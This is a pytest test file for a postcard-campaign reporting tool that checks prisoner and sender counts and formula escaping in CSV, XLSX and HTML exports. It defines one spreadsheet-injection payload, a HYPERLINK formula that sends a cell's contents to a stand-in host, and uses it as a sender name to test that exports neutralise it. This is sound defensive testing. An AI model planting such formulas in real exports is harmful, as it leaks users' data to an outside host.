"""Coverage reports on a fixture ledger: exact counts, and names that look like formulas."""

from __future__ import annotations

import csv
import random
import re
from pathlib import Path

import pytest
from conftest import run

from postcards.codes import new_code
from postcards.errors import UsageError
from postcards.ledger import Ledger, LedgerCard
from postcards.report import Directory, build_report, write_report

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
AT = "2025-03-01T09:30:00Z"


def _card(rng: random.Random, sender: tuple[str, str], prisoner: tuple[str, str]) -> LedgerCard:
    return LedgerCard(new_code(rng), "spring", "1", sender[0], prisoner[0], "ru", sender[1],
                      prisoner[1], f"Дорогой {prisoner[1]}")  # fmt: skip


@pytest.fixture
def ledger(tmp_path: Path):
    """Three senders, four prisoners, six cards in every state that counts differently."""
    rng = random.Random(3)
    anna, evil, jan = ("S1", "Anna Berg"), ("S2", EVIL), ("S3", "Jan Novák")
    ales, maria, ihar, pavel = ("P1", "Алесь"), ("P2", "Марыя"), ("P3", "Ігар"), ("P4", "-Павел")
    cards = {
        "sent": _card(rng, anna, ales),
        "returned": _card(rng, evil, ales),
        "reply": _card(rng, jan, maria),
        "void": _card(rng, anna, ihar),
        "generated": _card(rng, evil, ihar),
        "printed": _card(rng, jan, pavel),
    }
    with Ledger.open(tmp_path / "ledger.db") as ledger:
        ledger.record_generated(cards.values(), at=AT)
        ledger.record_event(cards["sent"].code, "sent", "desk", at="2025-03-02T10:00:00Z")
        ledger.record_event(cards["returned"].code, "sent", "desk", at="2025-03-03T10:00:00Z")
        ledger.record_event(cards["returned"].code, "returned", "desk", at="2025-03-20T10:00:00Z")
        ledger.record_event(cards["reply"].code, "sent", "desk", at="2025-03-03T11:00:00Z")
        ledger.record_event(cards["reply"].code, "reply", "desk", at="2025-04-01T10:00:00Z")
        ledger.record_event(cards["void"].code, "void", "desk")
        ledger.record_event(cards["printed"].code, "printed", "desk")
        yield ledger


DIRECTORY = Directory(
    parliaments={"S1": "European Parliament", "S2": "Sejm", "S3": "European Parliament"},
    prisoners={"P1": "Алесь", "P2": "Марыя", "P3": "Ігар", "P4": "-Павел", "P5": "Zoja"},
)


def test_exact_counts(ledger: Ledger) -> None:
    report = build_report(ledger, "spring", DIRECTORY)
    assert report.totals == {"generated": 1, "printed": 1, "reply": 1, "returned": 1,
                             "sent": 1, "void": 1}  # fmt: skip
    rows = [(r.prisoner_id, r.generated, r.sent, r.returned, r.last_sent)
            for r in report.prisoners]  # fmt: skip
    assert rows == [
        ("P3", 1, 0, 0, ""),  # the void card counts nowhere
        ("P4", 1, 0, 0, ""),
        ("P5", 0, 0, 0, ""),  # in custody, no card at all
        ("P2", 1, 1, 0, "2025-03-03T11:00:00Z"),  # a reply still counts as sent
        ("P1", 2, 2, 1, "2025-03-03T10:00:00Z"),  # a returned card too
    ]
    assert [r.prisoner_id for r in report.unreached] == ["P3", "P4", "P5"]
    senders = {r.sender_id: (r.parliament, r.generated, r.sent, r.returned, r.replies)
               for r in report.senders}  # fmt: skip
    assert senders == {
        "S1": ("European Parliament", 1, 1, 0, 0),
        "S2": ("Sejm", 2, 1, 1, 0),
        "S3": ("European Parliament", 2, 1, 0, 1),
    }
    assert [(p.parliament, p.senders, p.generated, p.sent, p.returned)
            for p in report.parliaments] == [
        ("European Parliament", 2, 3, 2, 0), ("Sejm", 1, 2, 1, 1)]  # fmt: skip
    assert report.coverage == [("2025-03-02", 1), ("2025-03-03", 2)]


def test_csv_starts_with_prisoners_and_keeps_formulas_as_text(ledger, tmp_path) -> None:
    path = write_report(build_report(ledger, "spring", DIRECTORY), tmp_path / "r.csv")
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[0] == "prisoner_id,prisoner_name,generated,sent,returned,last_sent"
    rows = list(csv.reader(text.splitlines()))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert "'-Павел" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-")]
    assert ["P5", "Zoja", "0", "0", "0", ""] in rows


def test_xlsx_keeps_formulas_as_text(ledger, tmp_path) -> None:
    from openpyxl import load_workbook

    path = write_report(build_report(ledger, "spring", DIRECTORY), tmp_path / "r.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["Prisoners", "Senders", "Parliaments", "Totals"]
    senders = book["Senders"]
    names = [c for c in senders.iter_rows(min_row=2, values_only=True)]
    evil = [row for row in names if row[0] == "S2"][0]
    assert evil[1] == "'" + EVIL
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows()
               for cell in row)  # fmt: skip
    assert [c.value for c in book["Prisoners"][1]] == [
        "prisoner_id",
        "prisoner_name",
        "generated",
        "sent",
        "returned",
        "last_sent",
    ]
    assert book["Prisoners"]["D6"].value == 2  # counts stay numbers


def test_html_is_one_self_contained_file(ledger, tmp_path) -> None:
    path = write_report(build_report(ledger, "spring", DIRECTORY), tmp_path / "r.html")
    page = path.read_text(encoding="utf-8")
    assert page.count("<svg") == 2
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", page)
    assert "=HYPERLINK(&quot;http://evil" in page
    assert "3 of 5 prisoners" not in page and "2 of 5 prisoners have had a card sent" in page


def test_unknown_format_is_a_usage_error(ledger, tmp_path) -> None:
    with pytest.raises(UsageError, match=r"r\.pdf: write the report as \.csv, \.xlsx, \.html"):
        write_report(build_report(ledger, "spring"), tmp_path / "r.pdf")
    assert list(tmp_path.glob("r.*")) == []


def test_track_report_command(ledger, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("POSTCARDS_DATABASE", f"sqlite:///{ledger.path}")
    (tmp_path / "campaign.toml").write_text('[campaign]\nname = "spring"\n')
    result = run("track", "report", cwd=tmp_path)
    assert result.exit_code == 0, result.stderr
    assert "prisoners: 2 of 4 have had a card sent" in result.stdout
    assert "nothing sent yet: P3 Ігар" in result.stdout
    result = run("track", "report", "-o", "out/report.xlsx", cwd=tmp_path)
    assert result.exit_code == 0 and (tmp_path / "out" / "report.xlsx").is_file()
